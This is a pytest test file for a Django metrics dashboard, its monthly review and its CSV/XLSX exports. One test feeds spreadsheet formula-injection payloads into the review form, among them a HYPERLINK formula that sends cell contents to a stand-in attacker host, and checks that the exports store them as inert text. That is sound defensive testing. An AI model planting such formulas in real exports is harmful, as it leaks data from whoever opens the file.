"""Dashboard, drill-down, monthly review and its exports."""

import csv
import json
import re
from datetime import datetime, timedelta
from io import BytesIO

import pytest
from django.template import Context, Template
from django.urls import reverse

from metrics.exports import cell
from metrics.probability import Band, success_probability
from metrics.services import review_action_add

from .conftest import NOW, TZ


@pytest.fixture
def client_as(client):
    def login(user):
        client.force_login(user)
        return client
    return login


def test_dashboard_shows_kpis_against_targets_and_charts(org, february, client_as):
    assert reverse("metrics-dashboard") == "/metrics/"
    page = client_as(org.manager1).get("/metrics/?from=2026-02-01&to=2026-02-28&lang=en")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'class="kpi red"' in html and 'class="kpi green"' in html
    # Six KPI trends and the failure-type bars, drawn by the vendored Chart.js from JSON.
    assert html.count("<canvas id=\"chart-") == 7
    assert "vendor/chartjs/chart.umd.min.js" in html and "js/charts.js" in html
    success = json.loads(re.search(r'id="chart-success_rate-data"[^>]*>(.*?)</script>',
                                   html).group(1))
    assert success["axis"] == "Percent (%)" and success["suffix"] == "%"
    assert success["target"] == 80.0 and success["points"][-1][0].startswith("2026-")
    assert "kpi=recovered" in html


def test_dashboard_names_deadline_and_escalation_kinds_in_the_users_language(org, february,
                                                                          client_as):
    chinese = client_as(org.manager1).get("/metrics/?from=2026-02-01&to=2026-02-28")
    assert "<td>首次联系</td>" in chinese.content.decode()
    english = client_as(org.manager1).get("/metrics/?from=2026-02-01&to=2026-02-28&lang=en")
    html = english.content.decode()
    assert "<td>First contact</td>" in html and "<td>contact</td>" not in html


def test_dashboard_rejects_a_node_outside_the_scope(org, client_as):
    assert client_as(org.manager1).get("/metrics/?node=S02").status_code in (400, 403)


def test_drill_down_lists_the_cases_behind_a_figure(org, february, client_as):
    page = client_as(org.manager1).get(
        "/metrics/cases/?from=2026-02-01&to=2026-02-28&kpi=recovered")
    html = page.content.decode()
    for case in (february.c1, february.c2, february.c7):
        assert f"/cases/{case.pk}/" in html
    assert f"/cases/{february.c3.pk}/" not in html
    missed = client_as(org.manager1).get(
        "/metrics/cases/?from=2026-02-01&to=2026-02-28&kpi=sla_missed&key=contact")
    assert missed.context["shown"] == 3
    assert client_as(org.manager1).get("/metrics/cases/?kpi=nonsense").status_code == 400


def test_monthly_review_compares_with_last_month_and_lists_cases(org, february, client_as):
    review_action_add(actor=org.manager1, node=org.S01, month=datetime(2026, 2, 1).date(),
                      action="每周案例学习", owner=org.advisor1)
    page = client_as(org.manager1).get("/metrics/review/?month=2026-02")
    assert page.status_code == 200
    rows = {r["kpi"]: r for r in page.context["rows"]}
    assert (rows["success_rate"]["value"], rows["success_rate"]["previous"]) == (60.0, 100.0)
    assert [c.pk for c in page.context["best"]][:1] == [february.c1.pk]  # 3 → 10 and 1 h
    assert [c.pk for c in page.context["failed"]] == [february.c4.pk, february.c3.pk]
    assert "每周案例学习" in page.content.decode()
    assert "@media print" in page.content.decode()


def test_review_actions_are_added_from_the_page(org, february, client_as):
    client = client_as(org.manager1)
    response = client.post("/metrics/review/?month=2026-02",
                           {"action": "话术培训", "owner": org.advisor1.pk, "due": "2026-03-31"})
    assert response.status_code == 302
    assert "话术培训" in client.get("/metrics/review/?month=2026-02").content.decode()


def test_review_downloads_as_csv_and_xlsx(org, february, client_as):
    client = client_as(org.manager1)
    answer = client.get("/metrics/review/?month=2026-02&format=csv")
    assert answer["Content-Type"].startswith("text/csv")
    assert "60.0" in answer.content.decode("utf-8-sig")
    openpyxl = pytest.importorskip("openpyxl")
    xlsx = client.get("/metrics/review/?month=2026-02&format=xlsx")
    sheet = openpyxl.load_workbook(BytesIO(xlsx.content)).active
    assert sheet.max_row > 10


def test_review_rejects_a_bad_month(org, client_as):
    assert client_as(org.manager1).get("/metrics/review/?month=2026-13").status_code == 400


# ---------------------------------------------------------------- seed 001 probability


T0 = datetime(2026, 3, 1, 8, 0, tzinfo=TZ)


@pytest.mark.parametrize("waited, percent", [
    (timedelta(minutes=30), 85), (timedelta(hours=2), 85), (timedelta(hours=3), 60),
    (timedelta(hours=24), 60), (timedelta(hours=30), 30), (timedelta(hours=49), 10),
])
def test_success_probability_follows_the_seed_bands(waited, percent):
    contacted = success_probability(contacted_at=T0 + waited, triggered_at=T0,
                                    now=T0 + timedelta(days=9))
    assert contacted.percent == percent and contacted.next_band is None
    waiting = success_probability(contacted_at=None, triggered_at=T0, now=T0 + waited)
    assert waiting.percent == percent


def test_an_uncontacted_case_shows_when_the_chance_drops():
    p = success_probability(contacted_at=None, triggered_at=T0, now=T0 + timedelta(hours=1))
    assert (p.label, p.next_band.percent, p.next_at) == ("85%", 60, T0 + timedelta(hours=2))
    last = success_probability(contacted_at=None, triggered_at=T0, now=T0 + timedelta(days=3))
    assert (last.label, last.next_band) == ("<10%", None)


def test_bands_are_data():
    bands = [Band(timedelta(hours=1), 90), Band(None, 5, below=True)]
    p = success_probability(contacted_at=None, triggered_at=T0, now=T0 + timedelta(hours=2),
                            bands=bands)
    assert p.label == "<5%"


def test_template_tag_renders_the_chance_on_an_open_case(org, february):
    html = Template("{% load metrics %}{% success_probability case %}").render(
        Context({"case": february.c6}))
    assert "&lt;10%" in html  # waiting since 11 February
    assert NOW > february.c6.triggered_at


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"详情")',
                                   "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_review_exports_never_carry_a_live_formula(org, february, client_as, typed):
    """Issue 15 §5: a text people type is written as text in the CSV and the XLSX."""
    client = client_as(org.manager1)
    assert client.post("/metrics/review/?month=2026-02", {
        "action": typed, "owner": org.advisor1.pk, "due": "2026-03-31"}).status_code == 302
    csv_text = client.get("/metrics/review/?month=2026-02&format=csv").content.decode("utf-8-sig")
    stored = "'" + typed.strip()  # the form trims the tab or line break in front
    cells = [c for row in csv.reader(csv_text.splitlines()) for c in row]
    assert stored in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(
        BytesIO(client.get("/metrics/review/?month=2026-02&format=xlsx").content)).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert stored in values
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert cell(typed) == "'" + typed
